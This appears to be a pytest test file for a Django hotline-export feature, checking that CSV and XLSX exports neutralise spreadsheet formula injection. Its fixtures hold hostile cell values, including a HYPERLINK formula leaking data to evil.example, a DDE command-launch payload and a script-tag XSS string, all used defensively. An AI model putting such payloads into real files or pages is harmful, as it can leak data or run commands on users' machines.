"""Exports: a synced mirror of the sandbox with hostile and Vietnamese cells, users, and readers
that parse every format back (csv, openpyxl, json) without the code under test."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import datetime

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl.utils.escape import unescape

from hotlines.choices import HotlineStatus, Network
from hotlines.models import ExportRecord, Hotline, Tenant
from hotlines.services.sync import hotlines_sync
from tests.conftest import make_user
from tests.factories import DEMO_OWNER_IDS, TenantFactory

# Names that a spreadsheet would run as formulas, or that break naive writers.
HOSTILE_NAMES = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "\tTab đầu dòng",
    "\rCR đầu dòng",
    "\x00NUL đầu dòng",
    "<r><t>markup</t></r>",
    '=cmd|" /C calc"!A0',
    'Tổng đài "chăm sóc", khách hàng; dòng 1\ndòng 2',
    "  khoảng trắng  ",
)
HOSTILE_DESCRIPTION = "-=+@ mô tả bắt đầu bằng dấu trừ"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\0")
API_FIELDS = [
    "id", "hotline", "name", "description", "network", "status", "is_free_charge", "connection_id",
    "connection_method", "owner_id", "created_at", "updated_at", "tenants",
]  # fmt: skip
# Tenants' names as hostile as the hotlines': formulas, markup, 10 KB.
TENANT_FORMULA = '=cmd|" /C calc"!A0'
TENANT_HTML = '<script>alert("x")</script><b>Công ty</b>'
TENANT_LONG = "Công ty " + "x" * 492  # as long as a tenant name is kept (10 KB upstream is cut to 500)
LIST = reverse("hotlines:list")
# Background exports run as soon as they are queued, or are stored for the test to run.
IMMEDIATE = {"default": {"BACKEND": "django.tasks.backends.immediate.ImmediateBackend"}}
DUMMY = {"default": {"BACKEND": "django.tasks.backends.dummy.DummyBackend"}}
ASKED_NETWORKS = ["viettel", "mobifone", "vinaphone", "unknown", "other"]  # every network: over 100 rows


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


@pytest.fixture
def hostile_synced(connection, sandbox):
    """The sandbox's 230 hotlines with hostile names, an unknown network value and a removed one, synced."""
    items = sandbox.dataset.all()
    for item, name in zip(items[3:], HOSTILE_NAMES, strict=False):
        sandbox.dataset.patch(item["id"], name=name)
    sandbox.dataset.patch(items[20]["id"], description=HOSTILE_DESCRIPTION)
    sandbox.dataset.patch(items[21]["id"], network="=2+5", status="@X", connection_method="+trunk")
    sandbox.dataset.patch(items[22]["id"], hotline="0012345678")
    run = hotlines_sync(connection=connection)
    assert run.error == "", run.error
    sandbox.dataset.remove(items[30]["id"])
    run = hotlines_sync(connection=connection)
    assert run.error == "", run.error
    # Tenants: two for one owner, a long name for another, a removed one (owns nothing); others
    # have none (test_tenant_columns adds another account's tenant with a shared owner ID). The
    # sandbox's own tenants, read by the sync, give way to these.
    Tenant.objects.filter(connection=connection).delete()
    TenantFactory(connection=connection, owner_id=DEMO_OWNER_IDS[0], name=TENANT_FORMULA, domain="=1+1.example.vn")
    TenantFactory(connection=connection, owner_id=DEMO_OWNER_IDS[0], name=TENANT_HTML, domain="<i>abc</i>.vn")
    TenantFactory(connection=connection, owner_id=DEMO_OWNER_IDS[1], name=TENANT_LONG)
    TenantFactory(connection=connection, owner_id=DEMO_OWNER_IDS[2], name="Đã xoá", is_removed=True)
    return connection


FEW_ROWS = 5


@pytest.fixture
def rows(connection):
    """A few plain hotlines written straight to the database (no sync): enough to export."""
    return [
        Hotline.objects.create(
            connection=connection, etelecom_id=str(i), hotline=f"1900{i:04d}", name=f"Tổng đài {i}", content_hash="x",
            raw={},
        )
        for i in range(FEW_ROWS)
    ]  # fmt: skip


@pytest.fixture
def exporter(db, django_user_model):
    return make_user(django_user_model, "exporter", "hotlines.view_hotline", "hotlines.export_hotline")


@pytest.fixture
def exporter_client(client, exporter):
    client.force_login(exporter)
    return client


@pytest.fixture
def small_limit(settings):
    settings.EXPORT_MAX_SYNC_ROWS = 100
    settings.EXPORT_RETENTION_HOURS = 2
    return settings


@pytest.fixture
def immediate(small_limit):
    small_limit.TASKS = IMMEDIATE


@pytest.fixture
def queued(small_limit):
    """Tasks are stored, not run: the test runs them (as the worker would) when it wants."""
    small_limit.TASKS = DUMMY


def ask(client, **query) -> ExportRecord:
    """Ask for an export of the synced list over `small_limit`'s rows: sent to its progress page."""
    response = client.get(LIST, {"network": ASKED_NETWORKS, **query})
    assert response.status_code == 302, response
    record = ExportRecord.objects.latest("pk")
    assert response.url == reverse("hotlines:export-detail", args=[record.pk])
    return record


# --- independent expectations -------------------------------------------------------------------


def safe(text: str) -> str:
    return "'" + text if text[:1] and text[0] in TRIGGERS else text


def local(value: datetime | None) -> datetime | None:
    return None if value is None else timezone.localtime(value, timezone.get_default_timezone()).replace(tzinfo=None)


def label(enum, value: str, text=safe) -> str:
    if value == "":
        return ""
    return str(dict(enum.choices)[value]) if value in enum.values else text(value)


def exact(text: str) -> str:
    return text


def spreadsheet_cell(column: str, hotline: Hotline, *, dates_as_text: bool):
    """What one cell of a CSV (`dates_as_text`) or XLSX must hold, derived from the model without
    the exporter. Only CSV neutralises formula-like text: an .xlsx string cell is never evaluated."""
    text = safe if dates_as_text else exact
    value = getattr(hotline, column, None)
    if column == "connection":
        return text(hotline.connection.name)
    if column in ("tenant_name", "tenant_domain"):
        field = column.removeprefix("tenant_")
        return text("; ".join(getattr(tenant, field) for tenant in tenants_of(hotline)))
    if column == "status":
        return label(HotlineStatus, value, text)
    if column == "network":
        return label(Network, value, text)
    if column in ("is_free_charge", "is_removed"):
        return {True: "Yes", False: "No", None: ""}[value]
    if column in ("created_at", "updated_at", "last_changed_at"):
        moment = local(value)
        if dates_as_text:
            return "" if moment is None else moment.strftime("%Y-%m-%d %H:%M:%S")
        return moment
    return text(value)


def tenants_of(hotline: Hotline) -> list[Tenant]:
    """The hotline's tenants, read here without the code under test: its account's live tenants
    with its owner, by name."""
    if not hotline.owner_id:
        return []
    tenants = Tenant.objects.filter(connection_id=hotline.connection_id, owner_id=hotline.owner_id, is_removed=False)
    return list(tenants.order_by("name", "id"))


def api_object(hotline: Hotline) -> dict:
    def stamp(value):
        return None if value is None else value.astimezone(timezone.UTC).strftime("%Y-%m-%dT%H:%M:%SZ")

    return {
        "id": hotline.etelecom_id,
        "hotline": hotline.hotline,
        "name": hotline.name,
        "description": hotline.description,
        "network": hotline.network,
        "status": hotline.status,
        "is_free_charge": hotline.is_free_charge,
        "connection_id": hotline.upstream_connection_id,
        "connection_method": hotline.connection_method,
        "owner_id": hotline.owner_id,
        "created_at": stamp(hotline.created_at),
        "updated_at": stamp(hotline.updated_at),
        "tenants": [{"id": t.etelecom_id, "name": t.name, "domain": t.domain} for t in tenants_of(hotline)],
    }


# --- readers ------------------------------------------------------------------------------------


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "CSV must start with a UTF-8 BOM"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def read_json(data: bytes) -> list[dict]:
    return json.loads(data.decode("utf-8"))


def read_xlsx(data: bytes) -> list[tuple[str, list[list]]]:
    """Every sheet as (title, rows), cells as Excel shows them (its _xHHHH_ escapes decoded)."""
    assert_no_formula(data)
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheets = []
    for sheet in book.worksheets:
        rows = []
        for row in sheet.iter_rows():
            cells = []
            for cell in row:
                assert cell.data_type != "f", f"formula cell {cell.coordinate}"
                value = cell.value
                cells.append(unescape(value) if isinstance(value, str) else value)
            rows.append(cells)
        sheets.append((sheet.title, rows))
    return sheets


def assert_no_formula(data: bytes) -> None:
    """No worksheet holds a formula element, whatever a reader makes of it."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name).decode()
                assert "<f>" not in xml and "<f " not in xml, f"formula in {name}"
